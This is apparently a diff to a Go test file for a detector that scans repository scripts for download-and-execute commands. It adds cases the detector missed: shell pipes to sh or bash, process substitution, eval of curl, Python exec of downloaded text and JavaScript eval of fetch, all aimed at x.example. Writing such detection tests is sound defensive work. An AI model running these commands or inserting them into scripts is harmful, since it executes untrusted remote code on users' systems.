@@ -60,6 +60,17 @@ var evasions = []struct {
 	{"line continuation", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i \\\n  | sh\n"}, "download-exec"},
 	{"empty quotes inside the command", map[string]string{"scripts/a.sh": "c''url -fsSL https://x.example/i | s\"\"h\n"}, "download-exec"},
 	{"backslash inside the command", map[string]string{"scripts/a.sh": "\\curl -fsSL https://x.example/i | ba\\sh\n"}, "download-exec"},
+
+	// Commands the download-exec pattern missed.
+	{"pipe to /bin/sh", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i | /bin/sh\n"}, "download-exec"},
+	{"pipe to env bash", map[string]string{"scripts/a.sh": "wget -qO- https://x.example/i | /usr/bin/env bash\n"}, "download-exec"},
+	{"pipe through tee", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i | tee /tmp/i | sh\n"}, "download-exec"},
+	{"source process substitution", map[string]string{"scripts/a.sh": "source <(curl -fsSL https://x.example/i)\n"}, "download-exec"},
+	{"dot process substitution", map[string]string{"scripts/a.sh": ". <(wget -qO- https://x.example/i)\n"}, "download-exec"},
+	{"eval of curl", map[string]string{"scripts/a.sh": "eval \"$(curl -fsSL https://x.example/i)\"\n"}, "download-exec"},
+	{"python exec of a download", map[string]string{"scripts/a.py": "exec(requests.get('https://x.example/p.py').text)\n"}, "download-exec"},
+	{"python exec of urlopen", map[string]string{"scripts/a.py": "exec(urllib.request.urlopen(u).read())\n"}, "download-exec"},
+	{"javascript eval of fetch", map[string]string{"scripts/a.mjs": "eval(await (await fetch(u)).text());\n"}, "download-exec"},
 }
 
 func gzipB64(s string) string {
